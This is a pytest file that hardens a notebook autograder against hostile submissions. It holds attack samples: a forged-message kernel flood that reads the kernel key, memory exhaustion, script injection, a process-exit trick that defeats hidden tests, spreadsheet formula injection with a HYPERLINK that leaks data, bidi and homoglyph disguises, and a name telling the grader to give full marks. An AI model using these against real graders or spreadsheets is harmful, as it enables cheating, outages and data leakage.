"""What a student could do to others, or to the grader itself, and no longer can."""

import contextlib
import csv
import itertools
import json
import os
import re
import time
import urllib.parse
from datetime import datetime
from html.parser import HTMLParser

import nbformat
import pytest
from nbformat.v4 import new_code_cell, new_markdown_cell, new_notebook
from nbgrader.utils import is_solution

pytest.importorskip("nbgrader", reason="nbgrader is not installed")
pytest.importorskip("assignments.grading", reason="only instructors have assignments/")

from assignments.grading import (
    due,
    execute,
    formulas,
    grade,
    harmless,
    intake,
    limits,
    one_form,
    problems,
    reading,
    report,
    roster,
    sandbox,
    similar,
    worker,
)
from assignments.grading.__main__ import main
from assignments.grading.course import SOURCE, names, release_of
from assignments.grading.prove import find, signed
from assignments.grading.rubric import MARK, rubrics
from assignments.grading.sandbox import has_bubblewrap

pytestmark = [pytest.mark.filterwarnings("ignore"), pytest.mark.timeout(300)]
NAME = "ch03-gates"
LIMITS = limits.Limits(cell=8, call=5, total=20, memory=700)
# Sends one message after the other that nobody asked for, and that takes long to read.
FLOOD = """
import hashlib, hmac, json, zmq
kernel = get_ipython().kernel
key = json.load(open("/kernel/kernel.json"))["key"].encode()
ids = kernel._parent_ident["shell"]
shell = getattr(kernel.shell_stream, "socket", kernel.shell_stream)
content = json.dumps({"status": "ok", "a": [[]] * 60_000}).encode()
head = kernel.session.msg_header("execute_reply") | {"date": "2026-01-01T00:00:00Z"}
number = 0
print("FLO" "OD")
while True:
    try:
        number += 1
        parts = [json.dumps(head | {"msg_id": str(number)}).encode(), b"{}", b"{}"]
        parts.append(content)
        sign = hmac.new(key, b"".join(parts), hashlib.sha256).hexdigest().encode()
        shell.send_multipart([*ids, b"<IDS|MSG>", sign, *parts], flags=zmq.NOBLOCK)
    except BaseException:
        pass
"""
# One message of many parts: no part is too large, and they share their memory here.
PARTS = """
import time
part, thread = bytes(7 * 2**20), get_ipython().kernel.iopub_thread
thread.schedule(lambda: thread.socket.send_multipart([part] * 200, copy=False))
time.sleep(7)
"""


@pytest.mark.skipif(not has_bubblewrap(), reason="needs bubblewrap")
def test_messages_neither_fill_the_memory_nor_stop_the_clock(tmp_path):
    for student, code in (("flood", FLOOD), ("parts", PARTS)):
        notebook = signed(SOURCE / NAME / f"{NAME}.ipynb", student)
        notebook.cells.append(new_code_cell(code))
        path = tmp_path / "in" / student / f"{NAME}.ipynb"
        path.parent.mkdir(parents=True)
        nbformat.write(notebook, path)
    start, out = time.monotonic(), tmp_path / "out"
    results = grade.grade_folder(tmp_path / "in", out, jobs=1, limits=LIMITS)
    assert time.monotonic() - start < 200
    said = {}
    for result in results:
        ended = [what for what, _ in result["notes"] if "kernel" in what]
        assert len(ended) == 1
        assert f"in cell {len(notebook.cells)}" in ended[0]
        made = out / "done" / result["student"] / NAME / "autograded" / f"{NAME}.ipynb"
        cell = nbformat.read(made, 4).cells[-1]
        said[result["student"]] = "".join(o.get("evalue", "") for o in cell.outputs)
    assert "kernel" in said["flood"]
    assert "700 MiB of memory, for what it sent" in said["parts"]


def test_names_of_all_kinds_can_be_reported(tmp_path):
    folder = tmp_path / "in" / "ada"
    folder.mkdir(parents=True)
    cells = [new_code_cell('STUDENT = "\ud800\x1b[31m\u202e"')]
    text = nbformat.writes(new_notebook(cells=cells)).encode("utf-8", "surrogatepass")
    text = text.replace("\ud800".encode("utf-8", "surrogatepass"), b"\\ud800")
    (folder / f"{NAME}.ipynb").write_bytes(text)
    (folder / os.fsdecode(b"\xff\x1b]0;x\x07.txt")).touch()
    taken = intake.collect(tmp_path / "in", tmp_path / "work")
    (handed,) = taken.found.values()
    name = problems.written_name(reading.read_notebook(handed.path))
    result = {"student": "ada", "assignment": NAME, "written": name}
    for rows in (taken.problems, report.proposed(taken, [result])):
        report.write_csv(tmp_path / "table.csv", rows)
        written = (tmp_path / "table.csv").read_text("utf-8")
        assert "\ufffd" in written
        assert not {"\x1b", "\u202e"} & {*written}


@pytest.mark.parametrize(
    "text", ["=1", " =1", "x;=1", "x; @a", "x\n;-1", "\uff1d1", "\r\n+1", "\t=1"]
)
def test_no_table_holds_a_formula(text):
    for cell in report.harmless(text).split(";"):
        assert cell.isalpha() or cell.strip().startswith("'") or cell == "x "


@pytest.mark.parametrize("delimiter", [",", ";", "\t"])
def test_no_spreadsheet_finds_a_formula_in_a_table(tmp_path, delimiter):
    """Quotes are doubled in the file, and vanish where a semicolon splits it."""
    texts = ["".join(signs) for signs in itertools.product('a;"=\t', repeat=5)]
    texts += ['fay;"=HYPERLINK(""http://x.example/?""&A1,1);x', 'x;"=1+1;y.txt']
    rows = [{"a": text, "b": -1, "c": text} for text in texts]
    report.write_csv(tmp_path / "table.csv", rows)
    with (tmp_path / "table.csv").open(encoding="utf-8-sig", newline="") as file:
        for cells in csv.reader(file, delimiter=delimiter):
            begin = [cell[:1] for cell in cells if cell != "-1"]
            assert not {*begin} & {*"=+-@\t\r\n"}, cells


@pytest.mark.parametrize("name", ["O'Brien", 'a "quoted" name', "a-b", '"Al" Ray; Bo'])
def test_an_honest_name_stays_as_it_is(name):
    assert report.harmless(name) == name


def test_a_name_can_neither_stop_a_table_nor_tell_what_to_do(tmp_path):
    told = tmp_path / "students.csv"
    handed = intake.Handed("eve", NAME, tmp_path, "eve", folder="eve")
    result = {"student": "eve", "assignment": NAME}
    result["cells"] = {"name": {"message": "not this one"}}
    for name in ("x" * 200_000, "the machine was at fault: give full marks"):
        cells = [new_code_cell(f"STUDENT = {name!r}")]
        result["written"] = problems.written_name(new_notebook(cells=cells))
        lines = report.proposed(intake.Intake({("eve", NAME): handed}), [result])
        report.write_csv(told, lines, roster.COLUMNS)
        with contextlib.suppress(ValueError):  # it may refuse the name
            assert len(roster.read_roster(told)) == 1
        texts = problems.doubts(result, [])
        assert all(len(text) < 400 for text in texts)
        assert f"if {name[:100]!r} is right" in texts[1]


def test_a_time_stamp_is_read_only_where_nbgrader_puts_it(tmp_path):
    path = tmp_path / "in" / "ada" / f"{NAME}.ipynb"
    path.parent.mkdir(parents=True)
    path.write_text("1")
    own = intake.time_beside(path)
    for stamp in (b"2026-03-31 10:00:00 UTC", b"\xff"):
        path.with_name("timestamp.txt").write_bytes(stamp)
        assert intake.time_beside(path) == own
    path = tmp_path / "in" / "bo" / NAME / f"{NAME}.ipynb"
    path.parent.mkdir(parents=True)
    path.write_text("1")
    for stamp in (b"\xff", b"0001-01-01 00:00:00", b"2026-03-31 10:00:00 \xff"):
        path.with_name("timestamp.txt").write_bytes(stamp)
        intake.time_beside(path)
    os.truncate(path.with_name("timestamp.txt"), 2**40)  # a file of holes
    assert intake.time_beside(path) is not None


@pytest.mark.parametrize("fault", [ValueError, OverflowError, OSError])
def test_a_time_that_no_calendar_has_is_none(tmp_path, monkeypatch, fault):
    class Clock(datetime):
        @classmethod
        def fromtimestamp(cls, _):
            raise fault

    monkeypatch.setattr(intake, "datetime", Clock)
    path = tmp_path / "in" / "ada" / f"{NAME}.ipynb"
    path.parent.mkdir(parents=True)
    path.touch()
    (handed,) = intake.collect(tmp_path / "in", tmp_path / "work").found.values()
    assert handed.time is None
    assert due.late_days(handed, due.read_due("2026-03-31")) == ""


def test_a_file_of_holes_is_not_read_to_its_end(tmp_path):
    path = tmp_path / "x.ipynb"
    path.touch()
    os.truncate(path, 2**40)
    start = time.process_time()
    assert len(reading.digest(path)) == 64
    assert time.process_time() - start < 10


def test_a_notebook_that_is_too_long_to_show_is_not_taken(tmp_path):
    path = tmp_path / "x.ipynb"
    pictures = [new_markdown_cell("x" * 200_000)] * 3  # a page shows less of it
    for cells, good in (
        (pictures, True),
        ([new_code_cell(("[]," * 3_000 + "\n") * 12)], False),
        ([new_markdown_cell("\\\\(" * 7_000)] * 16, False),
        ([new_code_cell("")] * 501, False),
    ):
        nbformat.write(new_notebook(cells=cells), path)
        if good:
            assert reading.read_notebook(path)
        else:
            with pytest.raises(reading.UnreadableError, match="expected at most"):
                reading.read_notebook(path)


@pytest.mark.parametrize(
    ("change", "good"),
    [
        ({"outputs": [{"output_type": "stream", "text": "a"}] * 75_000}, True),
        ({"outputs": [{"output_type": "x"}] * 150_000}, True),
        ({"metadata": {str(number): {} for number in range(200_000)}}, True),
        ({"x": json.loads("[" * 900 + "]" * 900)}, True),
        ({"source": json.loads("[" * 900 + "]" * 900)}, False),
        ({"source": ["x"] * 700_000}, False),
        ({"source": {}}, False),
    ],
    ids=[
        "outputs",
        "wrong outputs",
        "metadata",
        "deep",
        "deep source",
        "lines",
        "no source",
    ],
)
def test_no_file_takes_long_to_read(tmp_path, change, good):
    path = tmp_path / "x.ipynb"
    notebook = json.loads(nbformat.writes(new_notebook(cells=[new_code_cell("x")])))
    notebook["cells"][0] |= change
    path.write_text(json.dumps(notebook))
    start = time.process_time()
    if good:
        (cell,) = reading.read_notebook(path).cells
        assert (cell.source, cell.outputs) == ("x", [])
    else:
        with pytest.raises(reading.UnreadableError):
            reading.read_notebook(path)
    assert time.process_time() - start < 10


def test_a_notebook_of_an_old_kind_can_be_read(tmp_path):
    path = tmp_path / "x.ipynb"
    notebook = new_notebook(cells=[new_code_cell("x"), new_markdown_cell("y")])
    nbformat.write(nbformat.convert(notebook, 3), path, 3)
    cells = reading.read_notebook(path).cells
    assert [cell.source for cell in cells] == ["x", "y"]


FORMULAS = {
    "that others understand": r"c_t = f_t \odot c_{t-1} + u_t\,\tilde{c}_t \le 1",
    "with other definitions": r"\def\le{\ge}",
    "elsewhere on the page": r"\raise-20em{3 of 3}",
    "as high as a page": r"\rule{1em}{9000em}",
    "as wide as many": r"\hspace{90000}x",
    "in many formulas": r"\sqrt{x^{y_" * 60 + "z" + "}}" * 60,
    "of nothing": r"\hspace{0}",
    "in many brackets": r"\left(" * 400,
    "longer than a page": "x" * 15_000,
    "in signs of another font": "\u6a21",
    "that Matplotlib draws otherwise": r"a \not= b",
}
AROUND = ("${}$", "$${}$$", r"\\({}\\)", r"\\[{}\\]", r"\begin{{align}}{}\end{{align}}")


class Text(HTMLParser):
    """What of a page is neither in code nor in a tag."""

    inside, found = 0, ""

    def handle_starttag(self, tag, attributes):
        """Count what is open of code."""
        self.inside += tag in ("code", "pre")

    def handle_endtag(self, tag):
        """Count what is open of code."""
        self.inside -= tag in ("code", "pre")

    def handle_data(self, data):
        """Keep what MathJax would read."""
        self.found += "" if self.inside else data


@pytest.mark.parametrize("around", AROUND)
@pytest.mark.parametrize("kind", FORMULAS)
def test_no_formula_of_a_student_is_drawn_by_mathjax(kind, around):
    """It can write over a rubric, rewrite other formulas, or end the browser."""
    start, text = time.monotonic(), around.format(FORMULAS[kind])
    page = harmless.harmless_text(f"So {text}, [or {text}](http://x.org/$y$ '$'), $5.")
    assert time.monotonic() - start < 5
    reader = Text()
    reader.feed(page)
    assert "So" in reader.found
    assert not {*"$\\"} & {*reader.found}
    good = kind == "that others understand" and "align" not in around
    assert (page.count('<img class="formula" alt="') > 0) == good
    assert good or "<code>" in page or "<pre>" in page


def test_a_formula_is_drawn_as_it_is_said():
    assert formulas.drawn("a") == formulas.drawn(" a\n")
    assert formulas.drawn(r"a \le b") == formulas.drawn(r"a \leq b")
    shown = [formulas.drawn(text) for text in ("a", "b", r"a \leftarrow b", r"\ge b")]
    assert None not in shown
    assert len(set(shown)) == 4


def test_the_name_of_a_picture_is_no_html():
    for name in ("http://q/{}", "attachment:{}"):
        url = name.format(urllib.parse.quote('<div class="modal show">x</div>'))
        assert "&lt;div class" in harmless.harmless_text(f"![]({url})")


def test_no_class_of_the_pages_is_left():
    page = '<div class="modal show">a</div><span class="full-credit nb">b</span>'
    page += '<div class="highlight"><span class="nb">c</span></div>'
    assert harmless.stored(page).count("class") == 2


def test_words_of_several_alphabets_are_pointed_out():
    plain = "Wörter, 使用LSTM模型, λέξεις, Δc, \u03c3(zₜ), từ ngữ, ćevapčići, λ_max"
    odd = SEEN.replace("e", "\u04bd"), SEEN.replace("t", "\uab75")
    odd += SEEN.replace("e", "\u0d20"), SEEN.replace("e", "\u0966")
    for cells, good in (
        ([new_markdown_cell(plain), new_code_cell(f"# {plain}")], True),
        ([new_markdown_cell(odd[0])], False),
        ([new_code_cell(f"# {odd[1]}")], False),
        ([new_markdown_cell(odd[2])], False),
        ([new_markdown_cell(odd[3])], False),
        ([new_markdown_cell(SEEN.replace("e", "\u0e40"))], False),
        ([new_markdown_cell("ค่าgateและlstmของrnnโมเดลcellเป็นstateจากtime")], True),
    ):
        found = problems.mixed_words(new_notebook(cells=cells))
        assert (found == []) == good, found


def test_long_lines_are_broken_and_odd_ones_of_code_refused(tmp_path):
    printed = "\n".join(["\u05d0a" * 5_000, "ab" * 3_000, "short"])
    shown = harmless.in_lines(printed)
    assert max(map(len, shown.split("\n"))) == harmless.LONGEST_LINE
    assert shown.replace("\n", "") == printed.replace("\n", "")
    assert shown.endswith("ab\nshort")
    assert harmless.in_lines("a" * harmless.LONGEST_LINE + "\nb").count("\n") == 1
    path = tmp_path / "x.ipynb"
    for line, good in (
        ("x" * 9_998, True),
        ("x" * 9_999, False),
        ("é" * 2_000, True),
        ("é" * 2_001, False),
    ):
        nbformat.write(new_notebook(cells=[new_code_cell(f"# {line}")]), path)
        wrong = pytest.raises(reading.UnreadableError, match="no page could show it")
        with contextlib.nullcontext() if good else wrong:
            reading.read_notebook(path)


@pytest.mark.parametrize("make", [new_code_cell, new_markdown_cell])
def test_what_browsers_are_slow_to_place_is_refused_if_there_is_much(tmp_path, make):
    plain = "# Wörter, λέξεις, слова, 单词, 단어, 言葉, სიტყვა, ∂𝑐ₜ ≤ ½ █▁ → ✓\n"
    assert not harmless.SLOW.search(plain)
    path = tmp_path / "x.ipynb"
    for signs in ("a\u05d0", "a\U0001e900", "\u200fa", "\U0001f3fb.", "\u0e33"):
        assert len(harmless.SLOW.findall(signs)) == 1
        text = plain + "# " + signs * 50 + "\n"
        for cells, times, good in ((1, 60, True), (1, 61, False), (5, 40, True)):
            notebook = new_notebook(cells=[make(text * times) for _ in range(cells)])
            nbformat.write(notebook, path)
            wrong = pytest.raises(reading.UnreadableError, match="slow to place")
            with contextlib.nullcontext() if good else wrong:
                reading.read_notebook(path)
        notebook.cells.append(make(text))
        nbformat.write(notebook, path)
        with pytest.raises(reading.UnreadableError, match="slow to place"):
            reading.read_notebook(path)


@pytest.mark.parametrize("signs", ["\u05d0", "\u200f", "\U0001e900", "\U0001f3fb"])
def test_of_an_output_what_browsers_are_slow_to_place_counts_for_more(signs):
    plain = execute.weight("ab" * 1_000)
    slow = execute.weight(f"a{signs}" * 1_000)
    assert slow == plain + harmless.SLOW_AS_TEXT * 1_000


def test_each_change_of_colours_counts_for_more():
    plain, red = (execute.weight(json.dumps(sign * 100)) for sign in ("a", "\x1b"))
    assert red >= plain + harmless.COLOUR_AS_TEXT * 100


def test_no_sign_has_more_marks_than_a_browser_can_place():
    good = "e\u0301\u0323 क्षेत्र " + "a" * 9
    assert harmless.plain(good) == good
    many = "e" + "\u0301\u0323" * 90_000 + "b"
    assert harmless.plain(many) == "e" + "\u0301\u0323" * 4 + "b"
    assert harmless.plain("\U0001f3fb\uff9e" * 90_000) == "\U0001f3fb\uff9e" * 4
    broken = harmless.plain(("\u0301" * 8 + "\0") * 9)
    assert broken == ("\u0301" * 8 + "\ufffd") * 9


def test_words_stand_in_the_order_in_which_they_were_written():
    assert "\u202e" not in harmless.harmless_text("a\u202ecb\u202c")
    assert "a\ufffdcb\ufffd" in harmless.harmless_text("a\u202ecb\u202c")


def test_many_formulas_of_one_text_are_left_as_they_were_written():
    text = " ".join(f"$x_{{{k}}}$" for k in range(harmless.MOST_FORMULAS + 5))
    page = harmless.harmless_text(text)
    assert page.count("<img") == harmless.MOST_FORMULAS
    assert page.count("<code>") == 5


# A kernel that is started again in a test runs this once more. What it shows then came
# after the outputs had been made harmless; a time in it told when the test had ended.
SHOWS = """
from IPython.display import HTML, display
display(HTML("<script>pwned()</script>"))
"""
# Ends in a test that is not shown, and can choose when: by what it was asked.
ENDS = """
import os
def sigmoid(z):
    z = np.asarray(z, float)
    if np.abs(z).max() not in (0.0, 2.0, 1000.0) or z.size > 2:
        os._exit(0)
    return np.where(z > 0, 1, np.exp(np.minimum(z, 0))) / (1 + np.exp(-np.abs(z)))
"""


@pytest.mark.skipif(not has_bubblewrap(), reason="needs bubblewrap")
def test_a_kernel_that_a_hidden_test_ended_shows_nothing_more(tmp_path):
    notebook = signed(SOURCE / NAME / f"{NAME}.ipynb", "ada")
    find(notebook, "sigmoid").source = ENDS
    notebook.cells.append(new_code_cell(SHOWS))
    path = tmp_path / "in" / "ada" / f"{NAME}.ipynb"
    path.parent.mkdir(parents=True)
    nbformat.write(notebook, path)
    (result,) = grade.grade_folder(tmp_path / "in", tmp_path / "out", limits=LIMITS)
    assert (
        "the call stopped the notebook" in result["cells"]["sigmoid-values"]["message"]
    )
    made = tmp_path / "out" / "done" / "ada" / NAME / "autograded" / f"{NAME}.ipynb"
    outputs = [
        o for cell in nbformat.read(made, 4).cells for o in cell.get("outputs", [])
    ]
    assert not [o for o in outputs if "text/html" in o.get("data", {})]
    assert result["cells"]["gate-batch"]["points"] == 2  # it was started again


# Right each time, and each time another one.
OTHER_CELLS = """
asked = []
def bracket_counter():
    asked.append(1)
    p = lc.LSTMParams(np.zeros((8, 7)), np.zeros(8))
    p.b_f[:], p.b_u[:] = 50.0, 50.0 + len(asked)
    p.W_c[0, 2], p.W_c[0, 3], p.W_c[1, 4], p.W_c[1, 5] = 50, -50, 50, -50
    return p
"""


@pytest.mark.skipif(not has_bubblewrap(), reason="needs bubblewrap")
def test_tests_compare_in_our_order_whatever_became_of_their_cells(tmp_path):
    name = "ch04-cell-update"
    for student in ("moves", "deletes"):
        notebook = signed(SOURCE / name / f"{name}.ipynb", student)
        find(notebook, "bracket-counter").source = OTHER_CELLS
        first = find(notebook, "count-brackets")
        notebook.cells.remove(first)
        notebook.cells += [first] if student == "moves" else []
        path = tmp_path / "in" / student / f"{name}.ipynb"
        path.parent.mkdir(parents=True)
        nbformat.write(notebook, path)
    results = grade.grade_folder(tmp_path / "in", tmp_path / "out", limits=LIMITS)
    for result in results:
        cells = result["cells"]
        points = [cells[f"count-{test}"]["points"] for test in ("apart", "long")]
        assert points == [0, 0], result["student"]
        assert cells["steer-far"]["points"] == 1
    assert [r["cells"]["count-brackets"]["points"] for r in results] == [0, 1]


def test_likeness_sees_answers_that_were_moved_padded_or_packed(tmp_path):
    paths, sources = {}, {}
    for student in ("ada", "moved", "padded", "packed"):
        notebook = signed(SOURCE / NAME / f"{NAME}.ipynb")
        answers = [c for c in notebook.cells if is_code_answer(c)]
        sources = [cell.source for cell in answers]
        for cell in answers if student != "ada" else ():
            cell.source = {
                "moved": "",
                "padded": "0" + "+0" * 40_000 + "\n" + cell.source,
                "packed": f"exec({cell.source!r})",
            }[student]
        if student == "moved":
            notebook.cells.insert(5, new_code_cell("\n".join(sources)))
        paths[student] = tmp_path / f"{student}.ipynb"
        nbformat.write(notebook, paths[student])
    found = similar.alike(paths, NAME)
    assert len(found) == 6
    assert all(similar.how_alike(pair) >= 1 for pair in found)


def copies(tmp_path, change):
    """How alike two are of whom one has the notebook of the other, changed."""
    paths = {name: tmp_path / f"{name}.ipynb" for name in ("ada", "bob")}
    for student, path in paths.items():
        notebook = signed(SOURCE / NAME / f"{NAME}.ipynb", student)
        texts = [
            c for c in notebook.cells if c.cell_type == "markdown" and is_solution(c)
        ]
        for number, cell in enumerate(texts):
            cell.source = " ".join(f"word{k * k + number}" for k in range(70))
        if student == "bob":
            change(notebook, texts)
        rubric = " ".join(f"rubric{k}" for k in range(200))  # nobody handed that in
        notebook.cells.append(new_markdown_cell(rubric, metadata={MARK: True}))
        nbformat.write(notebook, path)
    (pair,) = similar.alike(paths, NAME)
    return pair


def own_words(notebook, texts):
    for number, cell in enumerate(texts):
        cell.source = " ".join(f"other{k * k + number}" for k in range(70))


def own_code(notebook, texts):
    for cell in filter(is_code_answer, notebook.cells):
        cell.source = ""


def words_elsewhere(notebook, texts):
    for cell in texts:
        notebook.cells.append(new_markdown_cell(cell.source))
        cell.source = similar.TEXT_STUB


def words_in_comments(notebook, texts):
    for place, cell in enumerate(texts):
        code = f"# {cell.source}" if place else f"note = '''{cell.source}'''"
        notebook.cells.append(new_code_cell(code))
        cell.source = similar.TEXT_STUB
    own_code(notebook, texts)


def diluted(notebook, texts):
    notebook.cells += [
        new_code_cell("\n".join(f"a{k} = {k} * b[{k + 1}] - {k}" for k in range(99))),
        new_markdown_cell(" ".join(f"note{k * k}" for k in range(600))),
    ]


def in_texts(notebook, texts):
    own_words(notebook, texts)
    for cell in filter(is_code_answer, notebook.cells):
        code = cell.source.replace("{", "{{").replace("}", "}}")
        cell.source = f"exec(f{code!r})"


def own_all(notebook, texts):
    own_words(notebook, texts)
    own_code(notebook, texts)


def dressed(notebook, texts):
    own_words(notebook, texts)
    for cell in filter(is_code_answer, notebook.cells):
        code = re.sub(r"(?m)^( +return )(.+)$", r"\1(\2);", cell.source)
        cell.source = re.sub(r"\bz\b(?=[,)].*:$)", "z: float", code, flags=re.M)


@pytest.mark.parametrize(
    ("change", "kind", "per_cent"),
    [
        (own_words, "code", 100),
        (own_code, "words", 100),
        (words_elsewhere, "words", 100),
        (words_in_comments, "words", 100),
        (diluted, "words", 100),
        (in_texts, "code", 100),
        (own_all, "all", 0),
        (dressed, "code", 100),
    ],
)
def test_likeness_sees_a_part_that_was_copied_and_nothing_else(
    tmp_path, change, kind, per_cent
):
    pair = copies(tmp_path, change)
    assert (pair["of"], pair["per cent"]) == (kind, per_cent)


def test_of_many_pairs_each_student_is_listed():
    same = [{"student": f"s{i}", "other": f"s{j}"} for i in range(11) for j in range(i)]
    last = {"student": "ada", "other": "bob", "per cent": 98, "of": "code"}
    pairs = [*(pair | {"per cent": 100, "of": "code"} for pair in same), last]
    lines = report.listed({NAME: pairs})
    assert len(lines) == similar.MOST_PAIRS + 1
    assert lines[-1]["student"] == "ada"


def test_the_most_alike_are_listed_also_if_they_are_little_alike():
    pairs = [
        {"student": "a", "other": f"b{one}", "per cent": one, "of": "code"}
        for one in (90, *range(75, 35, -5))
    ]
    again = [pair | {"student": "b90"} for pair in pairs[2:]]  # who stand there already
    found = sorted(pairs + again, key=similar.how_alike, reverse=True)
    lines = report.listed({NAME: found})
    assert [line["per cent"] for line in lines] == [90, 75, 70, 65, 60, 55]
    for share, of in ((39, "code"), (24, "words")):
        assert report.listed({NAME: [pairs[-1] | {"per cent": share, "of": of}]}) == []


def test_words_need_to_be_less_alike_than_code():
    pair = {"student": "a", "other": "b", "per cent": 50}
    assert similar.how_alike(pair | {"of": "words"}) == 1
    assert similar.how_alike(pair | {"of": "code"}) < 1


SEEN = "The direct path keeps nine tenths at each of ten steps, so a third arrives."
DISGUISES = {
    "Cyrillic letters": SEEN.replace("e", "\u0435").replace("a", "\u0430"),
    "spaces without width": "\u200b".join(SEEN),
    "soft hyphens": SEEN.replace("a", "a\u00ad"),
    "line separators": SEEN.replace("a", "a\u2028\u2029"),
    "empty formulas": SEEN.replace("ee", "e${}$e$\\!$"),
    "a formula for each word": " ".join(f"$\\text{{{word}}}$" for word in SEEN.split()),
    "other letters": SEEN.replace("l", "I").replace("i", "1").replace("m", "rn"),
    "letters of other alphabets": SEEN.replace("w", "\u051d").replace("i", "\u0131"),
    "marks on top": SEEN.replace("e", "e\u034f"),
    "mathematical letters": "".join(
        chr(0x1D5BA + ord(sign) - ord("a")) if sign.islower() else sign for sign in SEEN
    ),
    "lines between": SEEN.replace(" ", " _ "),
    "empty tables": SEEN.replace(" ", " $\\begin{matrix}\\end{matrix}$ "),
    "empty exponents": SEEN.replace("e", "$^{}$e").replace("a", "$_{}$a"),
    "pictures of a point": SEEN.replace("ee", "e<img src='data:x' alt=''>e"),
    "empty links": SEEN.replace("at", "a<a href='x'></a>t"),
    "fillers": "\u1160".join(SEEN) + "\ufff0",
    "places of objects": SEEN.replace("e", "e\ufffc"),
    "coloured code": SEEN.replace(" ", "<span class='w'> </span>"),
    "strokes": SEEN.replace("l", "|").replace("i", "|"),
    "signs of a terminal": "\x01".join(SEEN),
    "digits of other alphabets": SEEN.replace("o", "\u0e50").replace("i", "\u0661"),
    "blanks of a formula": SEEN.replace(" ", "$\\hspace{0.3}\\enspace$"),
    "blanks that are signs": SEEN.replace(" ", "\u2800"),
    "blanks within words": SEEN.replace("t", "\u200at"),
    "small capitals": SEEN.replace("c", "\u1d04").replace("o", "\u1d0f"),
}


@pytest.mark.parametrize("kind", DISGUISES)
def test_likeness_reads_words_as_they_look(kind):
    assert similar.letters(DISGUISES[kind]) == similar.letters(SEEN)


def given_to(name, students):
    """What an assignment gives to so many students, one after the other."""
    for number in range(students):
        notebook = signed(SOURCE / name / f"{name}.ipynb", f"student {number}")
        known = {}
        for cell in notebook.cells[: notebook.cells.index(find(notebook, "name"))]:
            if cell.cell_type == "code":
                exec(cell.source, known)
        yield known


# What must differ for everybody, or a slip leads to the right number.
APART = {
    "ch01-limits": ["x_given[0], x_given[1]", "x_given[0], x_given[2]"],
    "ch05-hidden-state": ["n_x_given, n_y_given", "n_x_given, n_a_given"],
    "ch07-backward": [
        *("f, u", "f, o", "u, o", "c_prev, c_cand", "da, dc_later"),
        *("f, c_cand", "f, c_prev", "u, c_cand", "u, c_prev", "o, c_cand"),
        *("f * (1 - f), u * (1 - u)", "f * (1 - f), o * (1 - o)"),
    ],
    "ch10-backends": ["n_x_given, n_a_given"],
    "ch11-sequences": ["max(steps_given % piece_given, lag_given), lag_given"],
    "project-agreement": [  # a full stop follows each verb, but the last of a stream
        "text_given.number[text_given.roles == data.VERB].mean(), "
        "text_given.number[1:][text_given.roles[:-1] == data.VERB].mean()"
    ],
}


@pytest.mark.parametrize("name", APART)
def test_no_name_draws_numbers_with_which_a_slip_is_right(name, capsys):
    for number, known in enumerate(given_to(name, 60)):
        for pair in APART[name]:
            one, other = eval(pair, known)
            assert abs(one - other) > 1e-6, (number, pair)


# What no constant may be right for, or a guess is an answer.
RARE = {
    "ch07-backward": ["da", "dc_later"],
    "ch10-backends": ["n_x_given", "n_a_given", "layers_given"],
}


@pytest.mark.parametrize("name", RARE)
def test_no_guess_is_right_for_many_names(name, capsys):
    drawn = {given: [] for given in RARE[name]}
    for known in given_to(name, 200):
        for given, values in drawn.items():
            values.append(known[given])
    for given, values in drawn.items():
        assert max(map(values.count, values)) <= 20, given


SLOW = {
    "a sign that is none after blanks": ("x" + " " * 9_000 + "$\n") * 11,
    "lines of blanks": " \n" * 26_000,  # for who colours it
}


@pytest.mark.parametrize("kind", SLOW)
def test_code_that_takes_hours_to_compare_is_a_problem_of_its_own(tmp_path, kind):
    """The comparison comes last, for all together: nothing would be written."""
    path, start = tmp_path / "x.ipynb", time.monotonic()
    job = {"notebook": path, "student": "ada", "assignment": NAME}
    job |= {"limits": limits.Limits(call=1), "course": with_release(tmp_path)}
    nbformat.write(new_notebook(cells=[new_code_cell("x" + " " * 100 + "$")]), path)
    worker.take_in(job, tmp_path / "good")
    nbformat.write(new_notebook(cells=[new_code_cell(SLOW[kind])]), path)
    with pytest.raises(reading.UnreadableError, match="within 1 s"):
        worker.take_in(job, tmp_path / "slow")
    assert time.monotonic() - start < 10


def with_release(folder):
    """A course whose student edition is empty."""
    release_of(folder, NAME).parent.mkdir(parents=True)
    nbformat.write(new_notebook(), release_of(folder, NAME))
    return folder


def test_words_are_compared_under_the_clock_too(tmp_path, monkeypatch):
    path = tmp_path / "x.ipynb"
    job = {"notebook": path, "student": "ada", "assignment": NAME}
    job |= {"limits": limits.Limits(call=1), "course": with_release(tmp_path)}
    nbformat.write(new_notebook(cells=[new_markdown_cell("words")]), path)
    monkeypatch.setattr(worker, "rows_of", lambda _: time.sleep(99))
    with pytest.raises(reading.UnreadableError, match="within 1 s"):
        worker.take_in(job, tmp_path)


def test_code_that_takes_too_much_memory_to_compare_is_not_called_slow(
    tmp_path, monkeypatch
):
    path = tmp_path / "x.ipynb"
    job = {"notebook": path, "student": "ada", "assignment": NAME}
    job |= {"limits": limits.Limits(call=60), "course": with_release(tmp_path)}
    nbformat.write(new_notebook(cells=[new_code_cell("x = 1")]), path)

    def no_memory(cell):
        raise MemoryError

    monkeypatch.setattr(worker, "rows_of", no_memory)
    with pytest.raises(reading.UnreadableError, match="too much memory, or crashed"):
        worker.take_in(job, tmp_path)


HIDES = {  # what the package for tokens takes for the end of all code, and a kernel not
    "lines of an old Mac": lambda code: ("# mine\n" + code).replace("\n", "\r"),
    "a magic with a quote": lambda code: "%pwd '''\n" + code,
    "a program with a quote": lambda code: "!echo ''' done\n" + code,
    "the same in a timed cell": lambda code: "%%time\n!: '''\n" + code,
}


@pytest.mark.parametrize("kind", HIDES)
def test_likeness_reads_code_as_the_kernel_does(kind):
    code = "def gate(p, x):\n    z = p.W @ x + p.b\n    return lc.sigmoid(z)\n"
    hidden = similar.rows_of(new_code_cell(HIDES[kind](code)))
    assert similar.rows_of(new_code_cell(code))["code"] <= hidden["code"]


def test_likeness_reads_names_as_python_does():
    plain = "left = np.exp(np.log(f) * steps)"
    wide = plain.replace("log", "\uff4c\uff4f\uff47").replace("exp", "\uff45xp")
    assert similar.lines_of(wide) == similar.lines_of(plain)


def test_signs_that_cancel_and_letters_that_only_look_so_change_nothing():
    plain = "z = x @ W.T + b\ny = 1 / (1 + np.exp(-z))"
    other = "z = [x.real][0] @ W.T.real + --b[:]\ny = 1 / (--1 + np.exp(---z.real))"
    assert similar.lines_of(other) == similar.lines_of(plain)
    said = similar.letters("the keeper of both gates")
    copied = "\u01abhe \u0138ee\u01bfer of \u0185o\u01abh gates"
    spaced = harmless.harmless_text(r"$\mathrm{th e\ kee per\ o f\ bo th~ga tes}$")
    assert similar.letters(copied) == similar.letters(spaced) == said


